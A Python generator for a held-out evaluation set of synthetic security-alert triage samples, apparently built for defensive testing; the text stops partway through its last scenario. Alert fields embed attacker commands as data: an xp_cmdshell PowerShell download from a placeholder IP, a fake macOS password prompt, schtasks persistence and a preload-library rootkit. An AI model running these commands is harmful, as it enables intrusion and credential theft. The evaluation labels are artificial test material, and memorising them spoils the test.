#!/usr/bin/env python3
"""Deterministic generator for evals/heldout.jsonl: a held-out split written apart from
the corpus.

The gold set (gen_evals.py) is built from the same 67 families as the runbooks in
corpus/runbooks, so an engine that copies the family runbook scores well on it. This split
uses alert families, vendors, wording and ATT&CK techniques that the runbooks do not cover
(macOS and Linux kernel persistence, SaaS audit logs, database audit, OT-adjacent Windows
hosts, email security gateways, VPN appliances, MDM, CI/CD runners, DNS security, ...).
Its scenario templates share no code with gen_evals.py's families; only the checks are
shared, so the same rules hold (active techniques, catalog actions, contract alert keys,
documentation IPs, example domains, credential-shaped strings containing EXAMPLE).

`must_cite` is set only where a runbook genuinely covers the activity, which is rare here.

Usage: python3 evals/tools/gen_heldout.py [--attack /work/shared/attack/enterprise-attack.json]
"""

import argparse
import datetime as dt
import os
import random
import sys
from collections import Counter

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gen_evals as checks  # noqa: E402  (the shared validation, not the family templates)

SEED = 20260611
SOURCE = "triage maintainers (held-out, written apart from the corpus)"
LICENSE = "Apache-2.0"
SEV = ["informational", "low", "medium", "high", "critical"]
AUTOMATIC = {"enrich_alert", "create_ticket", "collect_forensics", "notify_owner", "add_to_watchlist"}

GIVEN = ["noor", "tomasz", "keiko", "adaeze", "rafael", "signe", "omar", "lucia", "viktor", "mei", "dario", "ingrid", "kwame", "priya", "anselm", "yara"]
FAMILY_NAMES = ["achebe", "kowalczyk", "tanaka", "mensah", "quispe", "halvorsen", "farouk", "esposito", "novak", "liang", "bianchi", "strand", "asante",
                "iyer", "krüger", "saleh"]
TENANTS = [("northwind", "northwind.example"), ("fabrikam", "fabrikam.example.com"), ("tailspin", "tailspin.example.net"), ("woodgrove", "woodgrove.example.org")]


class H:
    """One sample's seeded context."""

    def __init__(self, index):
        self.r = random.Random(f"{SEED}:heldout:{index}")
        self.org, self.dom = self.r.choice(TENANTS)
        self.t = dt.datetime(2026, 1, 5, tzinfo=dt.timezone.utc) + dt.timedelta(seconds=self.r.randint(0, 150 * 86400))
        self.n_alert = 0

    def pick(self, seq):
        return self.r.choice(seq)

    def n(self, a, b):
        return self.r.randint(a, b)

    def hexs(self, k):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(k))

    def later(self, minutes):
        self.t += dt.timedelta(minutes=minutes)

    def iso(self):
        return self.t.strftime("%Y-%m-%dT%H:%M:%SZ")

    def person(self):
        g, f = self.pick(GIVEN), self.pick(FAMILY_NAMES)
        f_ascii = f.replace("ü", "ue")
        return {"upn": f"{g}.{f_ascii}@{self.dom}", "short": f"{g[0]}{f_ascii}", "name": f"{g.title()} {f.title()}"}

    def ext_ip(self):
        return f"{self.pick(['192.0.2', '198.51.100', '203.0.113'])}.{self.n(2, 250)}"

    def int_ip(self):
        return self.pick([f"10.{self.n(64, 120)}.{self.n(0, 254)}.{self.n(2, 254)}", f"172.{self.n(16, 31)}.{self.n(0, 254)}.{self.n(2, 254)}"])

    def asset(self, env, crit, owner):
        return {"environment": env, "criticality": crit, "owner": owner}

    def alert(self, source, name, sev, fields, ents=None, asset=None, desc=None):
        self.n_alert += 1
        a = {"id": f"ho-{source.split('-')[0]}-{self.hexs(8)}", "source": source, "time": self.iso(), "rule": {"id": f"HO-{self.n(1000, 9999)}", "name": name}}
        if sev:
            a["rule"]["severity"] = sev
        if desc:
            a["rule"]["description"] = desc
        e = {k: list(v) for k, v in (ents or {}).items() if v}
        if e:
            a["entities"] = e
        if asset:
            a["asset"] = asset
        a["fields"] = fields
        return a


def sev_for(base, asset, attempt_only=False):
    """The labelling convention of evals/README.md: the family's usual true-positive severity,
    one up on critical production, one down on low-value dev/staging, `low` for attempts that
    failed or were blocked."""
    if attempt_only:
        return "low"
    s = SEV.index(base)
    if asset and asset["environment"] == "production" and asset["criticality"] == "critical":
        s += 1
    elif asset and asset["environment"] in ("dev", "staging") and asset["criticality"] in ("low",):
        s -= 1
    return SEV[max(1, min(4, s))]


def T(alerts, tech, sev, forbid=(), cite=None, tags=()):
    return {"alerts": alerts, "tech": list(tech), "sev": sev, "disp": "true_positive", "forbid": list(forbid), "cite": cite, "tags": list(tags)}


def N(alerts, disp, forbid, sev="informational", cite=None, tags=()):
    return {"alerts": alerts, "tech": [], "sev": sev, "disp": disp, "forbid": list(forbid), "cite": cite, "tags": list(tags)}


HOST_DISRUPT = ["isolate_host", "kill_process"]
ID_DISRUPT = ["disable_account", "reset_password", "revoke_sessions"]
TP_DEFAULT = ["delete_resource", "change_org_policy"]

# --------------------------------------------------------------------------------------
# Scenarios.  Each is f(h, tp, v) -> sample; v varies the scenario between samples.
# --------------------------------------------------------------------------------------


def macos_launch_agent(h, tp, v):
    u = h.person()
    host = f"MBP-{u['short'].upper()[:6]}-{h.n(10, 99)}"
    asset = h.asset("production", h.pick(["medium", "high"]), "it-endpoint")
    if tp:
        label = h.pick(["com.apple.systemupdate.helper", "com.google.keystone.agentd", "com.adobe.acc.sync"])
        binary = f"/Users/{u['short']}/Library/Application Support/.{h.hexs(6)}/{h.pick(['updater', 'helperd', 'sync'])}"
        f = {"event_type": "file_created", "path": f"/Users/{u['short']}/Library/LaunchAgents/{label}.plist", "process": {"path": "/bin/zsh", "parent": "osascript"},
             "plist": {"Label": label, "ProgramArguments": [binary], "RunAtLoad": True, "KeepAlive": True}, "binary_signed": False, "binary_notarized": False}
        a = h.alert("jamf-protect", "LaunchAgent plist written pointing at an unsigned binary in a hidden folder", "high", f, {"users": [u["upn"]], "hosts": [host], "files": [binary]}, asset)
        tech = ["T1543.001", "T1059.002"] if v % 2 == 0 else ["T1543.001", "T1564.001"]
        return T([a], tech, sev_for("medium", asset), TP_DEFAULT + ["revoke_token", "contain_cloud_resource"], tags=["macos", "persistence"])
    f = {"event_type": "file_created", "path": "/Library/LaunchAgents/us.zoom.updater.login.check.plist", "process": {"path": "/Applications/Zoom Workplace/Contents/MacOS/ZoomUpdater", "parent": "launchd"},
         "plist": {"Label": "us.zoom.updater.login.check", "RunAtLoad": True}, "binary_signed": True, "team_id": "BJ4HAAB9B3", "binary_notarized": True}
    a = h.alert("jamf-protect", "New LaunchAgent registered", "medium", f, {"users": [u["upn"]], "hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ID_DISRUPT + ["delete_resource"], tags=["macos"])


def macos_gatekeeper(h, tp, v):
    u = h.person()
    host = f"MBA-{h.n(100, 999)}"
    asset = h.asset("production", "medium", "it-endpoint")
    if tp:
        dmg = h.pick(["ChromeUpdate.dmg", "Slack_Installer_Pro.dmg", "NotionSetup-arm64.dmg"])
        f = {"command": f"xattr -d com.apple.quarantine /Volumes/Installer/{dmg[:-4]}.app", "parent": "Terminal", "download_url": f"https://{h.pick(['dl-apps.example.net', 'cdn-install.example'])}/{dmg}",
             "followed_by": "osascript -e 'display dialog \"macOS needs your password to continue\" default answer \"\" with hidden answer'", "user": u["short"]}
        a = h.alert("kandji-edr", "Quarantine attribute stripped from a freshly downloaded app, then a password prompt", "high", f, {"users": [u["upn"]], "hosts": [host]}, asset)
        return T([a], ["T1553.001", "T1056.002", "T1204.002"], sev_for("high", asset), TP_DEFAULT + ["contain_cloud_resource", "revoke_token"], tags=["macos", "defense-evasion"])
    f = {"command": f"xattr -d com.apple.quarantine /Users/{u['short']}/src/build/Release/Inspector.app", "parent": "Xcode", "download_url": None, "user": u["short"],
         "context": "binary built locally by Xcode; developer-signed with the company team ID"}
    a = h.alert("kandji-edr", "Quarantine attribute removed", "low", f, {"users": [u["upn"]], "hosts": [host]}, h.asset("dev", "low", "mobile-apps"))
    return N([a], "benign", HOST_DISRUPT + ID_DISRUPT + ["delete_resource"], tags=["macos"])


def macos_keychain(h, tp, v):
    u = h.person()
    host = f"MBP-{h.n(100, 999)}"
    asset = h.asset("production", "high", "finance-it")
    f = {"process": "/usr/bin/security", "args": h.pick(["dump-keychain -d login.keychain-db", "find-generic-password -ga Chrome", "find-internet-password -s vpn." + h.dom + " -w"]),
         "parent": f"/private/tmp/.{h.hexs(5)}/agent", "parent_signed": False, "user": u["short"], "prompted_user": False}
    a = h.alert("osquery", "Keychain item read by a process launched from /private/tmp", "high", f, {"users": [u["upn"]], "hosts": [host]}, asset)
    return T([a], ["T1555.001"], sev_for("high", asset), TP_DEFAULT + ["contain_cloud_resource", "quarantine_workload"], tags=["macos", "credential-access"])


def linux_kmod(h, tp, v):
    host = f"{h.pick(['hpc', 'gpu', 'edge'])}-node-{h.n(1, 40):02d}"
    if tp:
        asset = h.asset("production", h.pick(["high", "critical"]), "platform-infra")
        mod = h.pick(["vmxnet_ext", "nfs_helper", "i2c_bus2"])
        f = {"syscall": "finit_module", "module": mod, "path": f"/dev/shm/.{h.hexs(4)}/{mod}.ko", "signed": False, "taint": "OE", "exe": "/usr/sbin/insmod",
             "session": {"tty": "pts/3", "auid": "deploy", "src": h.ext_ip()}, "after": {"hidden_pids": h.n(1, 3), "proc_modules_missing": True}}
        if v == 3:
            # Secure Boot lockdown refused the module: an attempt that failed.
            f["result"] = "EKEYREJECTED: Lockdown: insmod: unsigned module loading is restricted"
            f.pop("after")
            a = h.alert("elastic-defend", "Unsigned kernel module load refused by lockdown", "high", f, {"hosts": [host], "users": ["deploy"]}, asset)
            return T([a], ["T1547.006"], sev_for("high", asset, attempt_only=True), TP_DEFAULT + ["revoke_oauth_grant", "contain_cloud_resource", "isolate_host"], tags=["linux"])
        a = h.alert("elastic-defend", "Unsigned kernel module loaded from tmpfs; module then missing from /proc/modules", "high", f, {"hosts": [host], "users": ["deploy"]}, asset)
        return T([a], ["T1547.006", "T1014"], sev_for("high", asset), TP_DEFAULT + ["revoke_oauth_grant", "contain_cloud_resource"], tags=["linux", "rootkit"])
    asset = h.asset("production", "high", "ml-platform")
    f = {"syscall": "finit_module", "module": "nvidia_uvm", "path": "/lib/modules/6.8.0-45-generic/updates/dkms/nvidia-uvm.ko", "signed": True, "signer": "DKMS module signing key",
         "exe": "/usr/sbin/modprobe", "parent": "dkms autoinstall", "change": f"CHG-{h.n(20000, 29999)} kernel patching window"}
    a = h.alert("elastic-defend", "Kernel module loaded outside boot", "medium", f, {"hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["quarantine_workload", "delete_resource"], tags=["linux"])


def linux_preload(h, tp, v):
    host = f"{h.pick(['pay', 'ledger', 'auth'])}-svc-{h.n(1, 30):02d}"
    asset = h.asset("production", h.pick(["high", "critical"]), "core-banking")
    if tp:
        lib = f"/usr/lib/x86_64-linux-gnu/libsys{h.hexs(3)}.so.1"
        f = {"path": "/etc/ld.so.preload", "operation": "write", "content": lib, "exe": "/usr/bin/cp", "auid": "www-data", "lib_owner_package": None,
             "lib_exports": ["readdir", "readdir64", "fopen", "accept"]}
        a = h.alert("sysdig-secure", "Global preload file modified to inject a library no package owns", "high", f, {"hosts": [host], "files": ["/etc/ld.so.preload", lib]}, asset)
        return T([a], ["T1574.006", "T1014"], sev_for("high", asset), TP_DEFAULT + ["revoke_oauth_grant", "quarantine_email"], tags=["linux", "rootkit"])
    f = {"path": "/etc/systemd/system/postgresql.service.d/override.conf", "operation": "write", "content": "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
         "exe": "/usr/bin/ansible-playbook", "auid": "ansible", "lib_owner_package": "libjemalloc2", "change": f"CHG-{h.n(30000, 39999)}"}
    a = h.alert("sysdig-secure", "LD_PRELOAD set for a service", "medium", f, {"hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["disable_account", "delete_resource"], tags=["linux"])


def salesforce_export(h, tp, v):
    u = h.person()
    asset = h.asset("production", "critical", "revenue-ops")
    if tp:
        ip = h.ext_ip()
        f = {"EventType": "ReportExport", "ReportName": h.pick(["All Opportunities with Contacts", "Customer master (full)", "Accounts by ARR"]), "RowsProcessed": h.n(80000, 400000),
             "SourceIp": ip, "Client": "python-simple-salesforce/1.12", "LoginHistory": {"first_seen_ip": True, "login_type": "Remote Access 2.0"},
             "UserType": "Standard", "Profile": "Sales User", "title": h.pick(["Account Executive", "SDR"]), "hr_status": h.pick(["resigned, last day in 6 days", "active"])}
        a = h.alert("salesforce-shield", "Report export of more than 50k rows through the API from a new IP", "high", f, {"users": [u["upn"]], "ips": [ip]}, asset)
        return T([a], ["T1213", "T1567"] if v % 2 else ["T1213"], sev_for("high", asset), TP_DEFAULT + ["isolate_host", "contain_cloud_resource"], cite=["runbook:rb-saas-mass-download"],
                 tags=["saas", "exfiltration"])
    f = {"EventType": "DataExport", "ExportType": "Weekly Export Service", "RowsProcessed": h.n(500000, 900000), "SourceIp": "10.70.4.12", "Client": "Salesforce Setup",
         "scheduled_by": f"sfdc-admin@{h.dom}", "schedule": "every Sunday 02:00", "destination": "backup vault (approved, BKP-112)"}
    a = h.alert("salesforce-shield", "Large data export", "medium", f, {"users": [f"sfdc-admin@{h.dom}"]}, asset)
    return N([a], "benign", ID_DISRUPT + ["revoke_oauth_grant", "delete_resource", "change_org_policy"], tags=["saas"])


def slack_export(h, tp, v):
    u = h.person()
    asset = h.asset("production", "high", "collaboration")
    if tp:
        app = h.pick(["Standup Buddy", "Giphy Plus", "Meeting Notes AI"])
        f = {"action": "app_installed", "app": {"name": app, "is_distributed": False, "scopes": ["channels:history", "groups:history", "im:history", "files:read", "users:read.email"]},
             "user": u["upn"], "ip": h.ext_ip(), "followed_by": {"conversations.history_calls": h.n(3000, 20000), "channels": h.n(200, 900), "window_minutes": 45}}
        a = h.alert("slack-audit", "Unlisted app with history scopes read hundreds of channels within an hour of install", "high", f, {"users": [u["upn"]]}, asset)
        return T([a], ["T1213.005", "T1528"], sev_for("high", asset), TP_DEFAULT + ["isolate_host", "contain_cloud_resource"], tags=["saas", "collection"])
    f = {"action": "export_started", "export_type": "corporate export (legal hold)", "user": f"ediscovery@{h.dom}", "approved_by": "legal", "matter": f"LGL-{h.n(100, 999)}",
         "ip": "10.70.8.20"}
    a = h.alert("slack-audit", "Workspace export started", "medium", f, {"users": [f"ediscovery@{h.dom}"]}, asset)
    return N([a], "benign", ID_DISRUPT + ["revoke_oauth_grant", "revoke_token", "delete_resource"], tags=["saas"])


def zoom_recordings(h, tp, v):
    u = h.person()
    asset = h.asset("production", "high", "collaboration")
    if tp:
        ip = h.ext_ip()
        f = {"operator": u["upn"], "category_type": "Recording", "action": "Download", "recordings": h.n(300, 2000), "via": "Server-to-Server OAuth app created 3 hours earlier",
             "app_name": "rec-archiver", "ip": ip, "includes": ["Board meeting", "M&A weekly", "All-hands"]}
        a = h.alert("zoom-admin", "Bulk download of cloud recordings by a new Server-to-Server app", "high", f, {"users": [u["upn"]], "ips": [ip]}, asset)
        return T([a], ["T1530", "T1098.001"] if v % 2 else ["T1530"], sev_for("high", asset), TP_DEFAULT + ["isolate_host", "quarantine_workload"],
                 cite=["runbook:rb-saas-mass-download"], tags=["saas", "collection"])
    f = {"operator": f"it-collab@{h.dom}", "category_type": "Recording", "action": "Move", "recordings": h.n(2000, 5000), "destination": "retention archive", "ticket": f"IT-{h.n(4000, 9999)}"}
    a = h.alert("zoom-admin", "Mass recording operation", "low", f, {"users": [f"it-collab@{h.dom}"]}, asset)
    return N([a], "benign", ID_DISRUPT + ["revoke_oauth_grant", "delete_resource"], tags=["saas"])


def gws_delegation(h, tp, v):
    asset = h.asset("production", "critical", "identity-platform")
    admin = h.person()
    client = str(h.n(10 ** 20, 10 ** 21 - 1))
    if tp:
        f = {"event": "AUTHORIZE_API_CLIENT_ACCESS", "actor": admin["upn"], "ip": h.ext_ip(), "client_id": client,
             "scopes": ["https://mail.google.com/", "https://www.googleapis.com/auth/drive"], "client_project": "unknown (not in the organization)",
             "actor_login": {"new_device": True, "2sv": "backup code"}}
        a = h.alert("google-workspace", "Domain-wide delegation granted full Gmail and Drive scopes to an outside client", "critical", f, {"users": [admin["upn"]]}, asset)
        return T([a], ["T1098", "T1114.002"], sev_for("high", asset), TP_DEFAULT + ["isolate_host", "quarantine_workload"], cite=["runbook:rb-overpermissioned-integration"],
                 tags=["saas", "identity"])
    f = {"event": "AUTHORIZE_API_CLIENT_ACCESS", "actor": admin["upn"], "ip": "10.70.1.5", "client_id": client, "scopes": ["https://www.googleapis.com/auth/drive.readonly"],
         "client_project": "backup vendor (vendor review VR-2231, approved)", "change": f"CHG-{h.n(40000, 49999)}"}
    a = h.alert("google-workspace", "Domain-wide delegation granted", "high", f, {"users": [admin["upn"]]}, asset)
    return N([a], "benign", ID_DISRUPT + ["revoke_oauth_grant", "delete_resource"], sev="low", tags=["saas"])


def mssql_cmdshell(h, tp, v):
    host = f"SQL{h.pick(['PRD', 'RPT', 'ERP'])}{h.n(1, 9):02d}"
    if tp:
        asset = h.asset("production", h.pick(["high", "critical"]), "erp")
        f = {"class_type": "CONFIGURATION", "statement": "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;", "server_principal_name": "app_erp", "client_ip": h.int_ip(),
             "followed_by": "EXEC xp_cmdshell 'powershell -nop -c \"iwr http://" + h.ext_ip() + "/t.exe -OutFile C:\\Users\\Public\\t.exe\"'", "application_name": "Microsoft SQL Server Management Studio"}
        if v == 3:
            f["followed_by"] = None
            f["result"] = "failed: the login lacks ALTER SETTINGS (error 15247)"
            a = h.alert("sqlserver-audit", "Attempt to enable xp_cmdshell from an application login", "high", f, {"hosts": [host], "users": ["app_erp"]}, asset)
            return T([a], ["T1505.001"], sev_for("high", asset, attempt_only=True), TP_DEFAULT + ["isolate_host", "quarantine_email"], tags=["database"])
        a = h.alert("sqlserver-audit", "Application login enabled xp_cmdshell and ran a download", "high", f, {"hosts": [host], "users": ["app_erp"]}, asset)
        return T([a], ["T1505.001", "T1059.001", "T1105"], sev_for("high", asset), TP_DEFAULT + ["revoke_oauth_grant", "quarantine_email"], tags=["database"])
    asset = h.asset("dev", "low", "data-eng")
    f = {"class_type": "CONFIGURATION", "statement": "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;", "server_principal_name": "CORP\\dba-maint", "client_ip": "10.80.2.14",
         "followed_by": "EXEC xp_cmdshell 'dir D:\\Backups'; EXEC sp_configure 'xp_cmdshell', 0;", "job": "nightly-restore-test"}
    a = h.alert("sqlserver-audit", "xp_cmdshell enabled", "medium", f, {"hosts": [host.replace("PRD", "DEV")], "users": ["CORP\\dba-maint"]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["disable_account", "delete_resource"], tags=["database"])


def db_bulk_read(h, tp, v):
    host = f"pg-{h.pick(['customers', 'billing'])}-{h.n(1, 4)}"
    asset = h.asset("production", "critical", "data-platform")
    if tp:
        f = {"audit": "pgaudit", "class": "READ", "command": "COPY", "statement": "COPY (SELECT * FROM customers) TO STDOUT WITH CSV", "user": "reporting_ro",
             "client_addr": h.int_ip(), "application_name": "psql", "rows": h.n(2_000_000, 9_000_000), "usual_client": "metabase-01 only"}
        a = h.alert("pgaudit", "Full-table COPY of the customer table by a reporting account from an unusual client", "high", f, {"hosts": [host], "users": ["reporting_ro"]}, asset)
        return T([a], ["T1213.006"], sev_for("high", asset), TP_DEFAULT + ["isolate_host", "revoke_oauth_grant"], tags=["database", "collection"])
    f = {"audit": "pgaudit", "class": "READ", "command": "COPY", "statement": "COPY customers TO '/backup/customers.csv'", "user": "backup_svc", "client_addr": "10.90.0.5",
         "application_name": "pgbackrest", "rows": h.n(2_000_000, 9_000_000), "schedule": "daily 01:00"}
    a = h.alert("pgaudit", "Bulk read of sensitive table", "medium", f, {"hosts": [host], "users": ["backup_svc"]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["disable_account", "rotate_secret", "delete_resource"], tags=["database"])


def ot_usb(h, tp, v):
    host = f"{h.pick(['HMI', 'EWS', 'HIST'])}-{h.pick(['LINE2', 'PUMP', 'SUBST'])}-{h.n(1, 9):02d}"
    asset = h.asset("production", "critical", "plant-ops")
    if tp:
        f = {"device": {"vendor": "Generic", "serial": h.hexs(12), "class": "Mass Storage"}, "executed": "E:\\Tools\\ProjectBackup.exe", "signed": False,
             "spawned": "cmd.exe /c copy E:\\Tools\\ProjectBackup.exe C:\\ProgramData\\svc\\ & schtasks /create /tn Backup /tr C:\\ProgramData\\svc\\ProjectBackup.exe /sc onstart",
             "host_role": "engineering workstation for line PLCs", "maintenance_window": False}
        if v == 2:
            f["result"] = "blocked by application allow-listing before it ran"
            f.pop("spawned")
            a = h.alert("defender-ot", "Blocked unsigned executable on removable media at an engineering workstation", "medium", f, {"hosts": [host]}, asset)
            return T([a], ["T1091"], sev_for("high", asset, attempt_only=True), TP_DEFAULT + ["isolate_host", "revoke_token"], tags=["ot", "windows"])
        a = h.alert("defender-ot", "Unsigned executable run from removable media on an engineering workstation", "high", f, {"hosts": [host]}, asset)
        # Production OT: isolating the HMI stops the line; the response goes through plant ops.
        return T([a], ["T1091", "T1053.005"], sev_for("high", asset), TP_DEFAULT + ["revoke_token", "contain_cloud_resource"], tags=["ot", "windows"])
    f = {"device": {"vendor": "Siemens", "serial": h.hexs(12), "class": "Mass Storage"}, "executed": "E:\\TIA_Portal_Update_V19\\Setup.exe", "signed": True, "signer": "Siemens AG",
         "maintenance_window": True, "work_order": f"WO-{h.n(10000, 99999)}", "technician": "vendor field engineer (escorted)"}
    a = h.alert("defender-ot", "Executable run from removable media", "medium", f, {"hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["disable_account", "delete_resource"], tags=["ot", "windows"])


def ot_remote_tool(h, tp, v):
    host = f"HIST-{h.pick(['NORTH', 'SOUTH'])}-{h.n(1, 4):02d}"
    asset = h.asset("production", "critical", "plant-ops")
    if tp:
        f = {"process": "C:\\Users\\Public\\AnyDesk.exe", "install": "portable, no installer", "connections": [{"dst": h.ext_ip(), "port": 443, "relay": True}],
             "incoming_session": True, "approved_remote_tools": ["secure jump host only"], "logon_user": "operator"}
        a = h.alert("nozomi-guardian", "Portable remote-desktop tool accepted an inbound session on a historian", "high", f, {"hosts": [host], "users": ["operator"]}, asset)
        return T([a], ["T1219.002", "T1133"] if v % 2 else ["T1219.002"], sev_for("high", asset), TP_DEFAULT + ["revoke_oauth_grant", "quarantine_email"], tags=["ot", "remote-access"])
    f = {"process": "C:\\Program Files\\Secomea\\GateManager\\LinkManager.exe", "incoming_session": True, "approved_remote_tools": ["Secomea (vendor support contract)"],
         "session_ticket": f"OT-RA-{h.n(100, 999)}", "logon_user": "vendor-support"}
    a = h.alert("nozomi-guardian", "Remote access session to OT asset", "medium", f, {"hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["disable_account", "block_indicator", "delete_resource"], tags=["ot"])


def email_vendor_impersonation(h, tp, v):
    u = h.person()
    asset = h.asset("production", "high", "finance")
    vendor = h.pick(["acme-logistics", "contoso-parts", "globex-supply"])
    if tp:
        f = {"from": f"accounts@{vendor}-invoices.example", "reply_to": f"{vendor}.billing@freemail.example", "to": u["upn"], "subject": "Updated remittance details - effective immediately",
             "dmarc": "fail", "lookalike_of": f"{vendor}.example", "body_excerpt": "Please update our bank details before Friday's payment run.", "thread": "reply to a real thread from 2026-01",
             "verdict": "delivered"}
        if v == 4:
            f["verdict"] = "quarantined before delivery"
            a = h.alert("abnormal-security", "Vendor lookalike domain asks finance to change bank details (quarantined)", "medium", f, {"users": [u["upn"]]}, asset)
            return T([a], ["T1656"], "low", TP_DEFAULT + ["isolate_host", "disable_account", "reset_password"], tags=["email", "fraud"])
        a = h.alert("abnormal-security", "Vendor lookalike domain asks finance to change bank details", "high", f, {"users": [u["upn"]]}, asset)
        return T([a], ["T1656", "T1566.002"] if v % 3 == 2 else ["T1656"], "medium", TP_DEFAULT + ["isolate_host", "disable_account", "contain_cloud_resource"], tags=["email", "fraud"])
    f = {"from": f"accounts@{vendor}.example", "to": u["upn"], "subject": "New bank details for 2026", "dmarc": "pass", "spf": "pass",
         "verification": "confirmed by phone with the vendor's known contact (AP-CALLBACK-231)", "verdict": "delivered"}
    a = h.alert("abnormal-security", "Payment detail change request", "medium", f, {"users": [u["upn"]]}, asset)
    return N([a], "benign", ["quarantine_email", "disable_account", "reset_password", "block_indicator", "delete_resource"], tags=["email"])


def email_internal_phish(h, tp, v):
    a_u, b_u = h.person(), h.person()
    asset = h.asset("production", "high", "corp-it")
    if tp:
        f = {"sender": a_u["upn"], "recipients": h.n(40, 300), "subject": "Shared: Q3 bonus allocations", "link": f"https://{h.pick(['share-files.example', 'docs-view.example.net'])}/view/{h.hexs(10)}",
             "sender_signin": {"ip": h.ext_ip(), "country": "unusual", "mfa": "satisfied by token"}, "sent_via": "OWA", "internal": True}
        a = h.alert("cisco-secure-email", "Internal sender mass-mailed a credential-harvesting link", "high", f, {"users": [a_u["upn"]]}, asset)
        return T([a], ["T1534", "T1078.004"], "high", TP_DEFAULT + ["isolate_host", "contain_cloud_resource"], tags=["email", "identity"])
    f = {"sender": f"security-awareness@{h.dom}", "recipients": h.n(200, 800), "subject": "Action needed: review your benefits", "link": "https://phish-sim.example/landing",
         "campaign": "quarterly phishing simulation (approved by CISO)", "internal": True}
    a = h.alert("cisco-secure-email", "Mass internal email with external link", "medium", f, {"users": [b_u["upn"]]}, asset)
    return N([a], "benign", ["quarantine_email", "disable_account", "reset_password", "revoke_sessions", "block_indicator", "delete_resource"], tags=["email"])


def vpn_appliance(h, tp, v):
    host = f"fw-{h.pick(['edge', 'dc'])}-{h.n(1, 3):02d}"
    asset = h.asset("production", "critical", "network")
    if tp:
        ip = h.ext_ip()
        f = {"logid": "0100032002", "action": "add", "cfgpath": "system.admin", "cfgobj": h.pick(["fortigate-tech-support", "admin_bak", "sslvpn_sync"]), "user": "admin", "ui": f"jsconsole({ip})",
             "preceded_by": f"GET /remote/logincheck?.. from {ip} (no successful admin login logged)", "then": "config backup downloaded via /api/v2/monitor/system/config/backup"}
        a = h.alert("fortigate", "Local super-admin created on the VPN appliance without a matching login", "critical", f, {"hosts": [host], "ips": [ip]}, asset)
        return T([a], ["T1136.001", "T1190", "T1005"], sev_for("high", asset), TP_DEFAULT + ["disable_account", "quarantine_email"], tags=["network", "vpn"])
    f = {"logid": "0100032002", "action": "add", "cfgpath": "system.admin", "cfgobj": "netops-break-glass", "user": "netops-jsmith", "ui": "GUI(10.70.0.8)",
         "change": f"CHG-{h.n(50000, 59999)} firmware upgrade 7.4.5", "mfa": True}
    a = h.alert("fortigate", "Administrator account added", "high", f, {"hosts": [host]}, asset)
    return N([a], "benign", ["isolate_host", "block_indicator", "disable_account", "contain_cloud_resource", "delete_resource"], tags=["network", "vpn"])


def vpn_session(h, tp, v):
    u = h.person()
    asset = h.asset("production", "high", "network")
    if tp:
        ip1, ip2 = h.ext_ip(), h.ext_ip()
        f = {"portal": "corp-gp", "user": u["short"], "client": {"host_id": "unknown", "os": "Linux", "hip_check": "no HIP report"}, "public_ip": ip2,
             "prior_session_same_cookie": {"public_ip": ip1, "os": "Windows 11", "hip_check": "compliant"}, "auth": "portal auth-cookie (no password, no MFA)"}
        a = h.alert("globalprotect", "VPN session reused an auth cookie from a second, non-compliant client", "high", f, {"users": [u["upn"]], "ips": [ip1, ip2]}, asset)
        return T([a], ["T1133", "T1550.004"], "high", TP_DEFAULT + ["isolate_host", "contain_cloud_resource"], tags=["vpn", "identity"])
    ip = h.ext_ip()
    f = {"portal": "corp-gp", "user": u["short"], "client": {"host_id": "LT-" + str(h.n(1000, 2999)), "os": "Windows 11", "hip_check": "compliant"}, "public_ip": ip,
         "note": "user travelling (travel notice TRV-88); hotel Wi-Fi", "auth": "password + push MFA"}
    a = h.alert("globalprotect", "VPN login from a new country", "medium", f, {"users": [u["upn"]], "ips": [ip]}, asset)
    return N([a], "benign", ID_DISRUPT + ["block_indicator", "delete_resource"], tags=["vpn"])


def mdm_device(h, tp, v):
    u = h.person()
    asset = h.asset("production", "critical" if v % 2 else "high", "identity-platform")
    if tp:
        f = {"event": "DeviceEnrolled", "user": u["upn"], "title": "Chief Financial Officer" if v % 2 else "VP Engineering", "device": {"model": "Pixel 7", "os": "Android 13", "owner": "personal",
                                                                                                                                      "compliant": False, "rooted": "unknown"},
             "enrolled_from_ip": h.ext_ip(), "previous_device_still_active": True, "preceded_by": "helpdesk MFA reset requested by phone 20 minutes earlier"}
        a = h.alert("intune", "Second device enrolled for an executive right after a phoned-in MFA reset", "high", f, {"users": [u["upn"]]}, asset)
        return T([a], ["T1098.005", "T1656"], sev_for("high", asset), TP_DEFAULT + ["isolate_host", "contain_cloud_resource"], tags=["mdm", "identity"])
    f = {"event": "DeviceEnrolled", "user": u["upn"], "device": {"model": "iPhone 15", "os": "iOS 18", "owner": "corporate", "compliant": True},
         "previous_device": "retired the same day (device swap ticket IT-" + str(h.n(1000, 9999)) + ")", "enrolled_from_ip": "10.70.3.40"}
    a = h.alert("intune", "New device enrolled", "low", f, {"users": [u["upn"]]}, asset)
    return N([a], "benign", ID_DISRUPT + ["delete_resource"], tags=["mdm"])


def mdm_wipe(h, tp, v):
    admin = h.person()
    asset = h.asset("production", "high", "it-endpoint")
    if tp:
        ip = h.ext_ip()
        f = {"activity": "wipe", "initiated_by": admin["upn"], "role": "Intune Administrator", "devices": h.n(25, 120), "window_minutes": h.n(3, 9), "ip": ip,
             "sign_in": {"new_ip": True, "mfa": "satisfied by claim in token"}, "sample_devices": [f"LT-{h.n(1000, 2999)}", f"LT-{h.n(1000, 2999)}", f"iPhone-{h.hexs(4)}"]}
        a = h.alert("intune", "Remote wipe sent to dozens of managed devices within minutes", "critical", f, {"users": [admin["upn"]], "ips": [ip]}, asset)
        return T([a], ["T1485", "T1078.004"], "critical", TP_DEFAULT + ["isolate_host", "quarantine_email"], tags=["mdm", "impact"])
    u = h.person()
